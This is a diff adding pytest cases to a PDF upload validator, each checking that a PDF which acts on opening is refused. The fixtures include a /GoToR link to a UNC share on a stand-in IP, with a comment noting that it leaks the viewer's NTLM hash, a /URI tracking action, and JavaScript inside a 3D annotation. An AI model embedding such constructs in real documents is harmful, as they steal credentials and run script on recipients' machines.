@@ -220,6 +220,37 @@ def test_a_deeply_nested_pdf_is_refused_at_once_and_a_shallow_one_accepted():
         check_pdf(deep, ContentLimits())
 
 
+def pdf_opening_with(action: DictionaryObject) -> bytes:
+    writer = _one_page()
+    writer._root_object[NameObject("/OpenAction")] = action
+    return _written(writer)
+
+
+@pytest.mark.parametrize(("action", "why"), [
+    # Opening fetches \\host\share: Windows sends the officer's NTLM hash to that host.
+    (_action("/GoToR", F="\\\\203.0.113.9\\share\\x.pdf"), "a link that opens another file"),
+    (_action("/URI", URI="https://example.invalid/track"), "an action that runs when it is"),
+    (DictionaryObject({NameObject("/S"): NameObject("/Named"),
+                       NameObject("/N"): NameObject("/Print")}), "a named action"),
+])
+def test_a_pdf_that_does_anything_but_show_a_page_when_opened_is_refused(action, why):
+    with pytest.raises(UploadRefused, match=why):
+        check_pdf(pdf_opening_with(action), ContentLimits())
+
+
+def test_a_3d_annotation_carrying_javascript_is_refused():
+    annotation = handmade_pdf(b"/X<</Subtype/3D/3DD<</OnInstantiate(app.alert(1))>>>>")
+    with pytest.raises(UploadRefused, match=r"JavaScript|3D"):
+        check_pdf(annotation, ContentLimits())
+
+
+def test_the_time_limit_is_read_at_every_object_not_every_few_hundred():
+    # Three pages are five objects: with no time at all to spend, the first object already
+    # runs out of it (a check every 256th object would never look at the clock here).
+    with pytest.raises(UploadRefused, match="too complex to check"):
+        check_pdf(pdf_document(pages=3), ContentLimits(max_seconds=0.0))
+
+
 # --- the description and the name -------------------------------------------------------
 
 
